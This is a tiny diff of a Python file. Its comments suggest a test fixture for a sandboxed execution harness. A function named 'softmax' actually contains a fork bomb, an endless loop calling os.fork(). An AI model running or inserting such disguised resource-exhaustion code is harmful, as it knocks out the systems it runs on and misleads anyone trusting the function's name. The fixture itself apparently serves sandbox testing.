@@ -1,8 +1,7 @@
 # ends: error, failed
 # needs: fork
-import os
-
-
 def softmax(x, axis=-1):
+    import os
+
     while True:
         os.fork()
